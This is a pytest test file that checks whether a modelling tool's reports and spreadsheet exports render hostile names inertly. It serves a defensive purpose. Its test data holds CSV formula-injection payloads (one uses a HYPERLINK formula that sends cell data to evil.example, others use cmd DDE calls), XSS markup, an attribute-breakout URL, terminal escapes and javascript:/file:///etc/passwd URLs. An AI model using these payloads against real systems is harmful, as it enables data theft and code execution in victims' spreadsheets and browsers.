"""Outputs that cannot attack their reader: formulas inert, links only to the web, text as text.

One copy of the real park gets hostile names: formulas a spreadsheet would run, HTML a
browser would run, a URL that tries to break out of its attribute, terminal escapes. It is
run, reported in both languages, exported to Excel and turned into the actuals template
(CSV and XLSX); each case then reads one output for one hostile string. Refused URLs
(javascript:, file:, data:…) are cases of their own.
"""

from __future__ import annotations

import csv
import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import PARALLEL, Case, World, cases

FORMULAS = {  # model key → a name a spreadsheet would run as a formula (OWASP's examples)
    "tenants.dap2.name": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "tenants.vtm.name": "=cmd|' /C calc'!A0",
    "exchanges.pg-cement.name": "@SUM(1+9)*cmd|' /C calc'!A0",
    "exchanges.apatite-dap2.name": "\t=1+2",
    "exchanges.apatite-dgc.name": "\r=1+2",
    "exchanges.slag-dgc-cement.name": '+HYPERLINK("http://evil.example")',
    "exchanges.bfslag-cement.name": "-1+cmd|' /C calc'!A0",
    "tenants.pp6.name": "+1+1",  # no call, but a spreadsheet still computes it (OWASP)
    "tenants.pat.name": "-2+3",
}
HTML = {  # model key → markup a browser would run
    "exchanges.acidheat-power.name": "<script>alert(1)</script>",
    "exchanges.acidheat-power.name_vi": "<script>alert(2)</script>",
    "sources.ref-dap2.title": "<img src=x onerror=alert(3)>",
}
BREAKOUT = 'https://a.example/"onmouseover="alert(4)'  # a web URL that closes its quote
ESCAPE = "x\x1b[2J\x1b]0;pwned\x07y"  # clears the screen, retitles the terminal


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> World:
    w = World(tmp_path_factory.mktemp("hostile"))
    for key, value in {**FORMULAS, **HTML, "sources.ref-dap2.url": BREAKOUT,
                       "tenants.dap2_power.name": ESCAPE}.items():
        w.mutate(w.model, key, value)
    w.mutate(w.scenario("carbon-price"), "title", "<script>alert(5)</script>")
    w.mutate(w.scenario("carbon-price"), "title_vi", "<script>alert(6)</script>")
    result = w.out / "carbon-price"
    w.terminal = w.run("run", w.scenario("carbon-price"), "--out", w.out).ran().out
    readers = [("report", result, "--format", "both", "--lang", lang) for lang in ("en", "vi")]
    readers += [("export-xlsx", result, "--out", w.out / "results.xlsx")]
    readers += [("template-actuals", w.model, "--year", "2024", "--out", w.out / f"actuals.{ext}")
                for ext in ("csv", "xlsx")]
    with ThreadPoolExecutor(PARALLEL) as pool:  # each writes its own files inside --out
        for outcome in pool.map(lambda args: w.run(*args), readers):
            outcome.ran()
    return w


def _csv_cells(files: list[Path]) -> list[str]:
    return [c for f in files for row in csv.reader(f.open(encoding="utf-8-sig", newline=""))
            for c in row]


def _xlsx_cells(path: Path) -> list:
    from openpyxl import load_workbook
    return [c for ws in load_workbook(path) for row in ws.iter_rows() for c in row]


OUTPUTS = {
    "results-csv": lambda w: _csv_cells(sorted((w.out / "carbon-price").rglob("*.csv"))),
    "actuals-csv": lambda w: _csv_cells([w.out / "actuals.csv"]),
}
WORKBOOKS = {"results-xlsx": "results.xlsx", "actuals-xlsx": "actuals.xlsx"}


@pytest.mark.parametrize("output", OUTPUTS)
@pytest.mark.parametrize("key", FORMULAS)
def test_a_formula_in_a_name_is_text_in_every_csv(hostile, key, output):
    name, cells = FORMULAS[key], OUTPUTS[output](hostile)
    assert not [c for c in cells if c.startswith(name)], "written as a live formula"
    assert [c for c in cells if c.startswith("'" + name)], "the name is missing"


@pytest.mark.parametrize("book", WORKBOOKS)
@pytest.mark.parametrize("key", FORMULAS)
def test_a_formula_in_a_name_is_a_string_cell_in_every_workbook(hostile, key, book):
    name = FORMULAS[key].lstrip("\t\r")  # openpyxl keeps a leading tab; \r is not allowed
    cells = [c for c in _xlsx_cells(hostile.out / WORKBOOKS[book])
             if isinstance(c.value, str) and name in c.value]
    assert cells, "the name is missing"
    assert all(c.data_type == "s" for c in cells), [c.coordinate for c in cells
                                                   if c.data_type != "s"]


def test_the_tool_reads_its_own_inert_cells_back_as_written(hostile):
    from symbiosis.present.resultdir import load_result_dir

    names = {r["tenant"]: r["name"] for r in load_result_dir(hostile.out / "carbon-price")
             .tables["tenants"]}
    for key in ("tenants.dap2.name", "tenants.vtm.name", "tenants.pp6.name", "tenants.pat.name"):
        assert names[key.split(".")[1]] == FORMULAS[key]


def test_no_workbook_holds_any_formula(hostile):
    for book in WORKBOOKS.values():
        assert not [c.coordinate for c in _xlsx_cells(hostile.out / book) if c.data_type == "f"]


class _Page(HTMLParser):
    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags, self.hrefs, self.handlers, self.text = [], [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.hrefs += [v for k, v in attrs if k in ("href", "src", "action", "formaction")]
        self.handlers += [k for k, _ in attrs if k.startswith("on")]

    def handle_data(self, data):
        self.text.append(data)


REPORTS = ["report.en.html", "report.vi.html"]


@pytest.mark.parametrize("report", REPORTS)
def test_the_html_report_runs_nothing_and_links_only_to_the_web(hostile, report):
    page = _Page((hostile.out / "carbon-price" / report).read_text(encoding="utf-8"))
    assert "script" not in page.tags and not page.handlers, (page.handlers, page.tags.count("script"))
    links = [h for h in page.hrefs if not h.startswith("data:image/")]  # embedded figures
    assert links and all(re.match(r"(https?://|#)", h) for h in links), links
    assert BREAKOUT in page.hrefs  # the quotes stayed inside the attribute
    assert "x" not in page.hrefs  # <img src=x …> never became an image


SHOWN = [("report.en.html", "<script>alert(1)</script>"), ("report.vi.html", "<script>alert(2)</script>"),
         ("report.en.html", "<img src=x onerror=alert(3)>"),
         ("report.vi.html", "<img src=x onerror=alert(3)>"),
         ("report.en.html", "<script>alert(5)</script>"), ("report.vi.html", "<script>alert(6)</script>")]


@pytest.mark.parametrize("report, markup", SHOWN)
def test_markup_in_a_name_is_shown_as_text(hostile, report, markup):
    page = _Page((hostile.out / "carbon-price" / report).read_text(encoding="utf-8"))
    assert markup in "".join(page.text)


@pytest.mark.parametrize("report", ["report.en.md", "report.vi.md"])
def test_the_markdown_twin_holds_no_raw_markup(hostile, report):
    text = (hostile.out / "carbon-price" / report).read_text(encoding="utf-8")
    assert not re.search(r"<\s*(script|img|iframe)", text, re.I)
    targets = re.findall(r"\]\(([^)\s]*)", text)
    assert all(re.match(r"<?(https?://|#|figures/)", t) for t in targets), targets
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", text)


def test_terminal_escapes_in_a_name_are_shown_not_run(hostile):
    assert "x\\x1b[2J\\x1b]0;pwnedy" in hostile.terminal.replace("\\x07", "")


def _url(key: str, value: str):
    def make(w):
        w.mutate(w.model, key, value)
        return ["validate", w.scenario("baseline")]
    return make


URLS = {"javascript": "javascript:alert(document.cookie)", "file": "file:///etc/passwd",
        "data": "data:text/html,<script>alert(1)</script>", "mixed-case": "JaVaScRiPt:alert(1)",
        "leading-space": " javascript:alert(1)", "vbscript": "vbscript:msgbox(1)",
        "no-scheme": "//evil.example/x", "newline-in-host": "https://a.example\n/x"}
URL_CASES = [Case(f"url-{k}", _url("sources.ref-park.url", v)) for k, v in URLS.items()] + [
    Case("url-kalundborg", lambda w: (w.mutate(w.kalundborg / "park.yaml",
                                               "sources.nb-central-rate.url",
                                               "javascript:alert(1)"),
                                      ["validate", w.kalundborg / "scenario.yaml"])[1])]


@cases(URL_CASES)
def test_a_source_url_that_is_not_a_web_address_is_refused(case, outcome):
    w = outcome.world
    if case.id == "url-kalundborg":
        outcome.refused(w.kalundborg / "park.yaml", "sources.nb-central-rate.url", "http(s)")
    else:
        outcome.refused(w.model, "sources.ref-park.url", "http(s)")
